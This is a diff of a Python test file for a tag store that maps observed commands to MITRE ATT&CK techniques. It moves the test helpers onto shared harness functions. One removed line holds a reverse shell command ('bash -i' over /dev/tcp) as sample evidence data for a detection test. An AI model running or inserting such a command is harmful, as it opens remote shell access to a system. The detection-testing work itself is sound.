@@ -4,13 +4,13 @@ from __future__ import annotations
 
 import json
 import tracemalloc
-import uuid
 from datetime import UTC, datetime
 from typing import Any
 
 import msgspec
 import pytest
 
+from harness.bus_messages import tag_data, tagged_payload
 from ttp_console import tag_store
 from ttp_console.tag_store import (
     DropReason,
@@ -23,7 +23,7 @@ from ttp_console.tag_store import (
     rollup,
 )
 from ttp_core.attack.catalogue import load_catalogue
-from ttp_core.contract.payloads import EventTagged, TagData, encode, envelope, worker_source
+from ttp_core.contract.payloads import EventTagged, TagData
 
 NOW = 1_800_000_000.0  # a fixed "now": nothing in the store reads a clock
 HOUR = 3600.0
@@ -38,18 +38,13 @@ def tag(
     confidence: float = 0.8,
     evidence: dict[str, Any] | None = None,
 ) -> TagData:
-    return TagData(
-        uuid=str(uuid.uuid4()),
+    return tag_data(
+        technique,
+        sub,
         rule_id=rule_id,
         rule_version=3,
-        tactic="TA0002",
-        technique_id=technique,
-        sub_technique_id=sub,
         confidence=confidence,
-        evidence={"command_text": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}
-        if evidence is None
-        else evidence,
-        attack_version="18.1",
+        evidence=evidence,
         mitre_url="https://attack.mitre.org/techniques/T1059/004/",
     )
 
@@ -61,15 +56,10 @@ def message(
     kind: str = "command",
     source_id: str = "evt-1",
 ) -> bytes:
-    data = EventTagged(
-        source_kind=kind,
-        source_id=source_id,
-        attacker_uuid=attacker,
-        revision=9,
-        tags=list(tags) or [tag()],
-    )
     when = datetime.fromtimestamp(at, UTC)
-    return encode(envelope(data, source=worker_source("w1"), subject=source_id, time=when))
+    return tagged_payload(
+        source_id, tags or [tag()], kind=kind, attacker_uuid=attacker, revision=9, time=when
+    )
 
 
 def as_json(raw: bytes) -> dict[str, Any]:
